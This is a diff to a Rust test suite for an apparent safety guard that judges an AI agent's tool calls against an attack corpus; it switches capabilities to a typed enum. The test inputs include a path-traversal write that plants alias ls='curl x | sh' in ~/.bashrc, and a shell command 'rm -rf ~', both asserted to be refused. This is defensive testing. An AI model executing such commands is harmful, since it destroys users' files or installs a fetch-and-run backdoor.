@@ -7,6 +7,7 @@ use std::num::NonZero;
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
+use metnos_core::capability::Capability;
 use metnos_kit::config::{LlmProvider, LlmTierConfig};
 use metnos_llm::Tiers;
 use metnos_llm::fake::{FakeLlm, Reply};
@@ -203,7 +204,7 @@ async fn every_attack_of_the_corpus_is_stopped_by_the_guard() {
     assert!(cases.len() >= 60, "the corpus has {} attacks", cases.len());
     for case in cases {
         let mut p = proposal("please help", &case.executor, case.args.clone());
-        p.capability = case.capability.clone();
+        p.capability = Capability::parse_optional(&case.capability).unwrap();
         let verdict = v.judge(&p).await.unwrap();
         assert_eq!(
             verdict.blocked_by,
@@ -227,7 +228,7 @@ async fn every_everyday_call_of_the_corpus_is_approved() {
     );
     for case in cases {
         let mut p = proposal("please help", &case.executor, case.args.clone());
-        p.capability = case.capability.clone();
+        p.capability = Capability::parse_optional(&case.capability).unwrap();
         let verdict = v.judge(&p).await.unwrap();
         assert!(
             verdict.approved,
@@ -238,15 +239,15 @@ async fn every_everyday_call_of_the_corpus_is_approved() {
         // is critical) and a request that names nothing of the call, it still passes: one
         // signal alone never refuses.
         let (critical, capability) = match case.executor.as_str() {
-            "fs_write" => (true, "fs:write"),
-            "shell_exec" => (true, "code:exec"),
-            "web_fetch" => (false, "network:http"),
-            "time_now" => (false, "time:read"),
-            _ => (false, "fs:read"),
+            "fs_write" => (true, Capability::FsWrite),
+            "shell_exec" => (true, Capability::CodeExec),
+            "web_fetch" => (false, Capability::NetworkHttp),
+            "time_now" => (false, Capability::TimeRead),
+            _ => (false, Capability::FsRead),
         };
         p.critical = Some(critical);
-        p.capability = capability.into();
-        p.capabilities = vec![capability.into()];
+        p.capability = Some(capability);
+        p.capabilities = vec![capability];
         let verdict = v.judge(&p).await.unwrap();
         assert!(
             verdict.approved,
@@ -266,8 +267,9 @@ async fn the_judge_refuses_clearly_misaligned_critical_calls() {
     let critical = |intent: &str, executor: &str, capability: &str, args: Value| {
         let mut p = proposal(intent, executor, args);
         p.critical = Some(executor != "web_fetch");
-        p.capability = capability.into();
-        p.capabilities = vec![capability.into()];
+        let capability = Capability::parse(capability).unwrap();
+        p.capability = Some(capability);
+        p.capabilities = vec![capability];
         p
     };
     // The example, as the judge alone sees it (no capability: the guard's write
@@ -278,7 +280,7 @@ async fn the_judge_refuses_clearly_misaligned_critical_calls() {
         "fs:write",
         json!({"path": "~/a/../.bashrc", "content;x": "alias ls='curl x | sh'"}),
     );
-    p.capability = String::new();
+    p.capability = None;
     p.capabilities = Vec::new();
     let verdict = v.judge(&p).await.unwrap();
     assert!(!verdict.approved, "{verdict:?}");
@@ -585,15 +587,15 @@ async fn an_executor_holding_code_exec_anywhere_is_judged_as_a_shell() {
     let dir = tempfile::tempdir().unwrap();
     let v = vaglio(dir.path(), 0.30, JudgeKind::RuleBased);
     let mut p = proposal("tidy up", "tidy", json!({"command": "rm -rf ~"}));
-    p.capability = "fs:read".into();
-    p.capabilities = vec!["fs:read".into(), "code:exec".into()];
+    p.capability = Some(Capability::FsRead);
+    p.capabilities = vec![Capability::FsRead, Capability::CodeExec];
     let verdict = v.judge(&p).await.unwrap();
     assert!(!verdict.approved, "{verdict:?}");
     assert_eq!(verdict.rule_id, Some("shell.rm_rf_home"));
     // And one holding fs:write anywhere is judged as a writer.
     let mut p = proposal("note", "notes", json!({"path": "~/.bashrc", "text": "x"}));
-    p.capability = "fs:read".into();
-    p.capabilities = vec!["fs:read".into(), "fs:write".into()];
+    p.capability = Some(Capability::FsRead);
+    p.capabilities = vec![Capability::FsRead, Capability::FsWrite];
     let verdict = v.judge(&p).await.unwrap();
     assert_eq!(verdict.rule_id, Some("write.shell_startup"), "{verdict:?}");
 }
